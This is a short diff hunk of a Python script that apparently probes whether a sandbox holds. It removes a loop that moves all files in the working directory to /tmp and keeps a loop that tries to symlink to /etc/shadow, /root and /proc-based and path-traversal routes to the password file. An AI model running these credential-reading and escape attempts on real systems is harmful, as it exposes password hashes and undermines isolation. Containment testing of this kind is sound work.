@@ -3,8 +3,6 @@
 # says:   HELD
 import os, socket
 
-for name in os.listdir("."):
-    os.rename(name, "/tmp/" + name) if os.access(".", os.W_OK) else None
 for target in ("/etc/shadow", "/root", "/proc/1/root/etc/shadow", "/proc/self/root/../../etc/shadow", "/../../../../etc/shadow"):
     try:
         os.symlink(target, "link")
